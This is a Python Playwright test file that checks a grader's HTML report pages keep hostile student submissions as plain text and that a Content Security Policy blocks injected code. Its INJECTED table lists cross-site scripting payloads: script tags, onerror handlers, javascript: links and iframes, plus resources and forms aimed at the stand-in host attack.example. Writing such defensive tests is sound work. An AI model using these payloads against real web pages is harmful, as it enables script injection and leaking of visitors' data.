"""Names, answers and messages that try to run a script in a page: they stay text, and the policy blocks scripts."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import unquote, urlsplit
from urllib.request import url2pathname

import pytest

from grader.storage.run_folder import page_path
from tests.browser.conftest import Opener, Witness
from tests.browser.written_runs import ATTACKS, HOSTILE

UNFOLD = "document.querySelectorAll('details').forEach(details => details.open = true)"
INJECTED = {
    "script": "<script>window.pwned = 1</script>",
    "handler": "<img src='data:image/gif;base64,broken' alt='' onerror='window.pwned = 1'>",
    "link": "<a id=bait href='javascript:window.pwned=1'>bait</a>",
    "frame": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "remote-script": "<script src='https://attack.example/x.js'></script>",
    "remote-image": "<img src='https://attack.example/x.png' alt=''>",
    "remote-style": "<style>@import url(https://attack.example/x.css);</style>",
    "form": "<form action='https://attack.example/'><button id=bait>bait</button></form>",
    "base": "<base href='https://attack.example/'>",
}


@pytest.mark.parametrize("name", ["index.html", "anonymous.html"])
def test_attacks_stay_text_on_the_cohorts_page(opened: Opener, runs: dict[str, Path], name: str) -> None:
    page = opened(runs["hostile"] / name)
    page.evaluate(UNFOLD)
    for column in range(8):
        page.locator("#roster thead th").nth(column).get_by_role("button").click()
    box = page.get_by_role("searchbox")
    for attack in ATTACKS:
        box.fill(attack)
    box.fill("")
    text = page.locator("body").inner_text()
    if name == "index.html":
        assert page.locator("#roster tbody tr:visible").count() == len(HOSTILE)
        for attack in ATTACKS[:7]:
            assert attack[:30] in text
    assert page.locator("script").count() == 1
    assert page.locator("iframe, object, embed, img, form, base, link, svg[onload]").count() == 0
    assert page.locator("meta[http-equiv]").count() == 1


def test_attacks_stay_text_on_every_students_page(opened: Opener, runs: dict[str, Path]) -> None:
    page = opened(runs["hostile"] / "index.html")
    links: list[str] = page.evaluate("[...document.querySelectorAll('#roster a')].map(link => link.href)")
    assert len(set(links)) == len(HOSTILE)
    given_back = [path.as_uri() for path in runs["hostile"].glob("feedback/*/*.html")]
    assert len(given_back) == len(ATTACKS)
    for href in [*links, *given_back]:
        path = Path(url2pathname(urlsplit(href).path))
        is_given_back = href in given_back
        assert path.is_relative_to(runs["hostile"] / ("feedback" if is_given_back else "students")), unquote(href)
        page.goto(href)
        page.evaluate(UNFOLD)
        assert page.url == href
        assert page.locator("script, iframe, object, embed, form, base, link").count() == 0
        assert page.locator("meta[http-equiv]").count() == 1
        assert page.locator("h1").is_visible()
        assert page.evaluate("window.pwned ?? null") is None
    for attack in ATTACKS:
        page.goto((runs["hostile"] / page_path(attack)).as_uri())
        page.evaluate(UNFOLD)
        assert page.locator("body").inner_text().count(attack[:12]) >= 5, attack


@pytest.mark.parametrize("place", ["index.html", "report.html"])
@pytest.mark.parametrize("attack", INJECTED)
def test_the_policy_stops_what_escaping_might_have_missed(
    opened_anyhow: Opener, witness: Witness, runs: dict[str, Path], tmp_path: Path, place: str, attack: str
) -> None:
    source = min(runs["made"].rglob(place)).read_text(encoding="utf-8")
    assert "</main>" in source
    broken = tmp_path / place
    broken.write_text(source.replace("</main>", INJECTED[attack] + "</main>"), encoding="utf-8")
    page = opened_anyhow(broken)
    if page.locator("#bait").count():
        page.locator("#bait").click(no_wait_after=True)
    page.wait_for_timeout(150)
    assert page.evaluate("window.pwned ?? null") is None
    assert page.url == broken.as_uri()
    assert witness.outside == []
    assert any("Content Security Policy" in said for said in witness.messages), witness


def test_a_script_inserted_by_a_script_is_blocked(
    opened_anyhow: Opener, witness: Witness, runs: dict[str, Path]
) -> None:
    page = opened_anyhow(runs["made"] / "index.html")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.pwned = 1";
          document.body.append(script);
        }"""
    )
    assert page.evaluate("window.pwned ?? null") is None
    assert any("Content Security Policy" in said for said in witness.messages)


def test_a_page_without_submissions_opens(opened: Opener, runs: dict[str, Path]) -> None:
    page = opened(runs["empty"] / "index.html")
    assert page.get_by_role("heading", name="No submissions").is_visible()
    assert page.locator("script").count() == 0
